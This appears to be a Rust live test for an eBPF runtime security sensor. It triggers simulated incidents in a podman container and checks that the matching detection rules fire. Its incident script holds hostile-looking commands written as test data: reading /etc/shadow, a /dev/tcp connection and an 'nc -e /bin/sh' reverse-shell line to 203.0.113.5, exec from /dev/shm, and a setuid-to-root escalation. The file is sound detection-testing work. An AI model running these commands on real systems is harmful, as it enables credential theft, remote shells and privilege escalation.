//! Live test: the real eBPF sensor on this kernel, real podman containers, real syscalls.
//!
//! With the sensor running (moat's default rules plus Falco's stable rules), it performs the workshop's
//! incidents inside a debian container and checks each fires the expected moat rule with the right
//! container id; then it performs the declarative cases of Falco's event-generator suite
//! (../shared/data/falco/evtgen) as real processes and syscalls, on the host or in a container as each
//! case says, and checks the named Falco rule fires with the expected output fields.
//! Needs root and BPF; prints `SKIPPED:` otherwise.

mod common;

use common::{IMAGE, podman, podman_env, shared, skip};

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use moat_runtime::rules::{Alert, Loader};
use moat_runtime::sensor::{self, Options};
use serde_json::Value;

/// Expands an event-generator test's matrix cases (`%{ item.x }` substitution).
fn expand(test: &Value) -> Vec<Value> {
    let mut items: Vec<BTreeMap<String, Value>> = Vec::new();
    match test.get("cases").and_then(Value::as_array) {
        None => items.push(BTreeMap::new()),
        Some(cases) => {
            for c in cases {
                let mut combos: Vec<BTreeMap<String, Value>> = vec![BTreeMap::new()];
                if let Some(vals) = c.get("values").and_then(Value::as_object) {
                    for (k, vs) in vals {
                        let vs = vs.as_array().cloned().unwrap_or_default();
                        combos = combos
                            .into_iter()
                            .flat_map(|m| {
                                vs.iter().map(move |v| {
                                    let mut m = m.clone();
                                    m.insert(k.clone(), v.clone());
                                    m
                                })
                            })
                            .collect();
                    }
                }
                items.extend(combos);
            }
        }
    }
    items.iter().map(|item| subst(test, item)).collect()
}

fn subst(v: &Value, item: &BTreeMap<String, Value>) -> Value {
    match v {
        Value::String(s) => {
            for (k, val) in item {
                let pat = format!("%{{ item.{k} }}");
                if s == &pat {
                    return val.clone();
                }
            }
            let mut out = s.clone();
            for (k, val) in item {
                let pat = format!("%{{ item.{k} }}");
                let rep = match val {
                    Value::String(x) => x.clone(),
                    other => other.to_string(),
                };
                out = out.replace(&pat, &rep);
            }
            Value::String(out)
        }
        Value::Array(a) => Value::Array(a.iter().map(|x| subst(x, item)).collect()),
        Value::Object(o) => {
            Value::Object(o.iter().map(|(k, x)| (k.clone(), subst(x, item))).collect())
        }
        other => other.clone(),
    }
}

/// One expanded case in the helper's plan format, plus what must fire.
struct Case {
    id: usize,
    name: String,
    rule: String,
    fields: BTreeMap<String, String>,
    in_container: bool,
    plan: Value,
}

fn to_case(id: usize, t: &Value) -> Case {
    let ctx = &t["context"];
    let in_container = matches!(ctx.get("container"), Some(Value::Object(_)));
    let procs: Vec<Value> = ctx["processes"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|p| {
            let args: Vec<Value> = p["args"]
                .as_str()
                .map(|a| a.split_whitespace().map(|x| Value::String(x.to_string())).collect())
                .unwrap_or_default();
            serde_json::json!({"name": p["name"], "exe": p.get("exe").cloned().unwrap_or(Value::Null), "args": args})
        })
        .collect();
    let mut steps = Vec::new();
    let resources = t["resources"].as_array().cloned().unwrap_or_default();
    let addr = resources
        .first()
        .and_then(|r| r["address"].as_str())
        .map(str::to_string);
    for s in t["steps"].as_array().cloned().unwrap_or_default() {
        match s["syscall"].as_str() {
            Some("socket") => {
                let dom = match s["args"]["domain"].as_str() {
                    Some("AF_PACKET") => 17,
                    Some("AF_INET6") => 10,
                    _ => 2,
                };
                let ty = match s["args"]["type"].as_str() {
                    Some("SOCK_RAW") => 3,
                    Some("SOCK_DGRAM") => 2,
                    _ => 1,
                };
                steps.push(serde_json::json!({"socket": [dom, ty, s["args"]["protocol"].as_i64().unwrap_or(0)]}));
            }
            Some(k @ ("dup2" | "dup3")) => {
                let newfd = s["args"]["newFd"]
                    .as_i64()
                    .or_else(|| s["args"]["newFd"].as_str()?.parse().ok());
                steps.push(serde_json::json!({"dup": k, "newfd": newfd, "addr": addr}));
            }
            _ => {}
        }
    }
    if steps.is_empty()
        && let Some(a) = &addr
    {
        // A client/server resource with no syscall steps: the process connects out.
        steps.push(serde_json::json!({"connect": a}));
    }
    let fields = t["expectedOutcome"]["outputFields"]
        .as_object()
        .map(|o| {
            o.iter()
                .map(|(k, v)| {
                    (
                        k.clone(),
                        v.as_str()
                            .map(str::to_string)
                            .unwrap_or_else(|| v.to_string()),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    Case {
        id,
        name: t["name"].as_str().unwrap_or("").to_string(),
        rule: t["rule"].as_str().unwrap_or("").to_string(),
        fields,
        in_container,
        plan: serde_json::json!({"id": id, "procs": procs, "steps": steps}),
    }
}

fn load_cases(dir: &Path) -> Vec<Case> {
    let expected: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("expected.json")).unwrap()).unwrap();
    let mut files: Vec<String> = expected["tests"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["file"].as_str().unwrap().to_string())
        .collect();
    files.dedup();
    let mut cases = Vec::new();
    for f in files {
        let v: Value =
            serde_saphyr::from_str(&std::fs::read_to_string(dir.join(&f)).unwrap()).unwrap();
        for t in v["tests"].as_array().cloned().unwrap_or_default() {
            for x in expand(&t) {
                let id = cases.len();
                cases.push(to_case(id, &x));
            }
        }
    }
    cases
}

/// `CASE id START ns END ns` lines → id → (start, end).
fn windows(stdout: &[u8]) -> BTreeMap<usize, (u128, u128)> {
    String::from_utf8_lossy(stdout)
        .lines()
        .filter_map(|l| {
            let w: Vec<&str> = l.split_whitespace().collect();
            Some((
                w.get(1)?.parse().ok()?,
                (w.get(3)?.parse().ok()?, w.get(5)?.parse().ok()?),
            ))
        })
        .collect()
}

fn alert_ns(a: &Alert) -> u128 {
    // RFC 3339 with nanoseconds, UTC.
    let t = &a.time;
    let days_secs = |y: i64, m: i64, d: i64| {
        let y2 = if m <= 2 { y - 1 } else { y };
        let era = y2.div_euclid(400);
        let yoe = y2 - era * 400;
        let doy = (153 * ((m + 9) % 12) + 2) / 5 + d - 1;
        (era * 146_097 + yoe * 365 + yoe / 4 - yoe / 100 + doy - 719_468) * 86_400
    };
    let n = |r: std::ops::Range<usize>| t.get(r).and_then(|x| x.parse::<i64>().ok()).unwrap_or(0);
    let secs =
        days_secs(n(0..4), n(5..7), n(8..10)) + n(11..13) * 3600 + n(14..16) * 60 + n(17..19);
    secs as u128 * 1_000_000_000 + n(20..29) as u128
}

/// Container attribution comes from the cgroup names the kernel reports with the first event of each
/// cgroup (and with every exec), never from a later /proc read that a short-lived process can lose:
/// the earlier occasional miss (a cgroup cached as "host" after its first process was gone from
/// /proc) cannot happen, so the run is not retried.
#[test]
fn live_sensor_containers_and_evtgen() {
    live_run();
}

fn live_run() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        return skip("live eBPF test needs root");
    }
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        return skip("no BTF at /sys/kernel/btf/vmlinux");
    }
    let sh = shared();
    let falco = sh.join("data/falco/rules/rules/falco_rules.yaml");
    let evtgen = sh.join("data/falco/evtgen");
    if !falco.exists() || !evtgen.exists() {
        return skip("../shared/data/falco not found");
    }
    let docker_tar = PathBuf::from(std::env::var("HOME").unwrap_or_default())
        .join(".cache/moat-fixtures/bookworm/docker.tar");
    let env = match podman_env(&sh) {
        Some(e)
            if Command::new("podman").arg("--version").output().is_ok() && docker_tar.exists() =>
        {
            e
        }
        _ => return skip("podman or ~/.cache/moat-fixtures/bookworm/docker.tar missing"),
    };
    if !podman(&env, &["image", "exists", IMAGE]).status.success() {
        let out = podman(&env, &["load", "-i", docker_tar.to_str().unwrap()]);
        assert!(
            out.status.success(),
            "podman load: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    // Sensor with moat's defaults + Falco's stable rules.
    let mut l = Loader::new();
    l.add_str("moat_rules.yaml", moat_runtime::rules::DEFAULT_RULES)
        .unwrap();
    l.add_file(&falco).unwrap();
    let engine = l.build();
    assert!(engine.skipped.is_empty(), "{:?}", engine.skipped);
    let tmp = tempfile::tempdir().unwrap();
    let ready = tmp.path().join("ready");
    let alerts: Arc<Mutex<Vec<Alert>>> = Arc::default();
    let sink = alerts.clone();
    let opts = Options {
        duration: Some(Duration::from_secs(300)),
        ready_file: Some(ready.clone()),
        ..Default::default()
    };
    let sensor_thread = std::thread::spawn(move || {
        sensor::run(engine, &opts, |_, a| {
            sink.lock().unwrap().extend(a.iter().cloned())
        })
    });
    let t0 = Instant::now();
    while !ready.exists() {
        if sensor_thread.is_finished() {
            match sensor_thread.join().unwrap() {
                Err(e) => return skip(&format!("no BPF: {e}")),
                Ok(_) => panic!("sensor stopped before attaching"),
            }
        }
        assert!(
            t0.elapsed() < Duration::from_secs(60),
            "sensor did not attach within 60 s"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    // --- 1. the workshop's incidents in a container ---
    let name = format!("moat-live-{}", std::process::id());
    let script = r#"
cat /etc/shadow > /dev/null
echo moat > /etc/moat-live-test
cp /bin/true /dev/shm/moat-payload && /dev/shm/moat-payload
(exec 3<>/dev/tcp/203.0.113.5/80) 2>/dev/null
cp /bin/true /tmp/nc && /tmp/nc -e /bin/sh 203.0.113.5 4444
cp /usr/bin/setpriv /tmp/sp && chmod u+s /tmp/sp && setpriv --reuid=1000 --regid=1000 --clear-groups /tmp/sp --reuid=0 --regid=0 --clear-groups /bin/true
if command -v curl >/dev/null; then curl -s -m 1 http://203.0.113.5/ >/dev/null; fi
sleep 0.5
"#;
    let out = podman(
        &env,
        &[
            "run",
            "-d",
            "--name",
            &name,
            "--tmpfs",
            "/dev/shm:rw,exec,size=16m",
            IMAGE,
            "/bin/bash",
            "-c",
            script,
        ],
    );
    assert!(
        out.status.success(),
        "podman run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let full_id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let short = &full_id[..12];
    let _ = podman(&env, &["wait", &name]);
    let _ = podman(&env, &["rm", "-f", &name]);

    // --- 2. Falco's event-generator cases ---
    let cases = load_cases(&evtgen);
    let workdir = tmp.path().join("eg");
    let helper = env!("CARGO_BIN_EXE_moat-evtgen");
    let host_plan: Vec<Value> = cases
        .iter()
        .filter(|c| !c.in_container)
        .map(|c| c.plan.clone())
        .collect();
    let out = Command::new("timeout")
        .arg("120")
        .arg(helper)
        .env(
            "MOAT_EG_PLAN",
            serde_json::json!({"workdir": workdir, "cases": host_plan}).to_string(),
        )
        .output()
        .unwrap();
    let mut win = windows(&out.stdout);
    // Container cases: the helper binary mounted read-only into one container that runs them all.
    let hdir = tmp.path().join("bin");
    std::fs::create_dir_all(&hdir).unwrap();
    std::fs::copy(helper, hdir.join("moat-evtgen")).unwrap();
    let ctr_plan: Vec<Value> = cases
        .iter()
        .filter(|c| c.in_container)
        .map(|c| c.plan.clone())
        .collect();
    let ename = format!("moat-live-eg-{}", std::process::id());
    let plan = serde_json::json!({"workdir": "/tmp/eg", "cases": ctr_plan}).to_string();
    let out = podman(
        &env,
        &[
            "run",
            "--rm",
            "--name",
            &ename,
            "--tmpfs",
            "/dev/shm:rw,exec,size=16m",
            "-v",
            &format!("{}:/eg:ro", hdir.display()),
            "-e",
            &format!("MOAT_EG_PLAN={plan}"),
            IMAGE,
            // The container stays up 2 s after the cases, as the workshop container sleeps at its end: the
            // sensor reads a process's container from /proc while it runs, so a container removed before
            // a loaded consumer reaches its events would leave them unattributed.
            "/bin/sh",
            "-c",
            "/eg/moat-evtgen; s=$?; sleep 2; exit $s",
        ],
    );
    let _ = podman(&env, &["rm", "-f", &ename]);
    let before = win.len();
    win.extend(windows(&out.stdout));
    eprintln!(
        "evtgen: {} host cases ran, {} container cases ran (podman: {})",
        before,
        win.len() - before,
        String::from_utf8_lossy(&out.stderr).trim()
    );
    let _ = std::fs::remove_file("/dev/shm/eg_devshm");

    std::thread::sleep(Duration::from_millis(1500));
    sensor::request_stop();
    let stats = sensor_thread.join().unwrap().expect("sensor run");
    let alerts = alerts.lock().unwrap().clone();
    // MOAT_LIVE_ALERTS_OUT=FILE keeps this run's alerts as `moat runtime watch --format json` writes them:
    // the dashboard test seeds the server with such a recording (crates/moat-server/tests/data).
    if let Some(out) = std::env::var_os("MOAT_LIVE_ALERTS_OUT") {
        let lines: String = alerts
            .iter()
            .map(|a| moat_runtime::alert::format_alert(a, moat_runtime::alert::Format::Json) + "\n")
            .collect();
        std::fs::write(&out, lines).expect("write the alerts recording");
    }
    eprintln!(
        "sensor: {} events, {} alerts, {} lost",
        stats.events, stats.alerts, stats.lost
    );

    // Workshop incidents: each moat rule with the container's id.
    let expect = [
        ("moat Shell in container", "bash"),
        ("moat Sensitive file read", "cat"),
        ("moat Write below etc", "bash"),
        (
            "moat Execution from temporary or shared-memory directory",
            "moat-payload",
        ),
        ("moat Outbound connection to malicious address", "bash"),
        ("moat Network tool in container", "nc"),
        ("moat Setuid to root from non-root", "sp"),
    ];
    let mut missing = Vec::new();
    for (rule, proc_name) in expect {
        let hit = alerts.iter().any(|a| {
            a.rule == rule
                && a.container.as_ref().is_some_and(|c| c.id == short)
                && a.output_fields.get("proc.name").and_then(Value::as_str) == Some(proc_name)
        });
        eprintln!(
            "workshop: {rule} ({proc_name}) in {short}: {}",
            if hit { "fired" } else { "MISSING" }
        );
        if !hit {
            missing.push(rule);
        }
    }
    let imgs: std::collections::BTreeSet<Option<String>> = alerts
        .iter()
        .filter_map(|a| a.container.as_ref().filter(|c| c.id == short))
        .map(|c| c.image_repository.clone())
        .collect();
    eprintln!("container image resolved as {imgs:?}");
    assert!(
        imgs.contains(&Some("localhost/debian-mini".to_string())),
        "image never resolved: {imgs:?}"
    );

    // Event-generator cases: the named Falco rule with the expected fields inside the case's window.
    let slack = 200_000_000u128;
    let mut fired = 0;
    let mut by_test: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    for c in &cases {
        let Some(&(s, e)) = win.get(&c.id) else {
            by_test.entry(c.name.clone()).or_default().1 += 1;
            continue;
        };
        let hit = alerts.iter().any(|a| {
            let t = alert_ns(a);
            a.rule == c.rule
                && t + slack >= s
                && t <= e + slack
                && c.in_container == a.container.is_some()
                && c.fields.iter().all(|(k, v)| {
                    a.output_fields
                        .get(k)
                        .map(|x| {
                            x.as_str()
                                .map(str::to_string)
                                .unwrap_or_else(|| x.to_string())
                        })
                        .as_deref()
                        == Some(v.as_str())
                })
        });
        let slot = by_test.entry(c.name.clone()).or_default();
        slot.1 += 1;
        if hit {
            slot.0 += 1;
            fired += 1;
        }
    }
    for (t, (ok, n)) in &by_test {
        eprintln!("evtgen {t}: {ok}/{n}");
    }
    let rate = fired as f64 / cases.len().max(1) as f64;
    eprintln!(
        "evtgen: {fired}/{} cases fired their Falco rule ({:.1}%)",
        cases.len(),
        rate * 100.0
    );
    assert!(
        missing.is_empty(),
        "workshop rules that did not fire: {missing:?}"
    );
    assert_eq!(stats.lost, 0, "ring buffer lost events");
    assert!(rate >= 0.95, "evtgen rate {rate}");

    // --- 3. the degraded sensor (proc connector): exec from /dev/shm still fires ---
    let ready2 = tmp.path().join("ready2");
    let sink2: Arc<Mutex<Vec<Alert>>> = Arc::default();
    let s2 = sink2.clone();
    let opts = Options {
        degraded: true,
        duration: Some(Duration::from_secs(30)),
        ready_file: Some(ready2.clone()),
        ..Default::default()
    };
    let degraded = std::thread::spawn(move || {
        sensor::run(moat_runtime::Engine::default_rules(), &opts, |_, a| {
            s2.lock().unwrap().extend(a.iter().cloned())
        })
    });
    let t0 = Instant::now();
    while !ready2.exists() && !degraded.is_finished() && t0.elapsed() < Duration::from_secs(30) {
        std::thread::sleep(Duration::from_millis(50));
    }
    let payload = format!("/dev/shm/moat-degraded-{}", std::process::id());
    std::fs::copy("/bin/sleep", &payload).unwrap();
    let _ = Command::new(&payload).arg("0.3").status();
    let _ = std::fs::remove_file(&payload);
    std::thread::sleep(Duration::from_millis(500));
    sensor::request_stop();
    let dstats = degraded.join().unwrap().expect("proc connector sensor");
    let hit = sink2.lock().unwrap().iter().any(|a| {
        a.rule == "moat Execution from temporary or shared-memory directory"
            && a.output_fields.get("proc.exepath").and_then(Value::as_str) == Some(payload.as_str())
    });
    eprintln!(
        "degraded sensor: {} events, exec from /dev/shm {}",
        dstats.events,
        if hit { "fired" } else { "MISSING" }
    );
    assert!(hit, "degraded sensor missed the exec from /dev/shm");
}
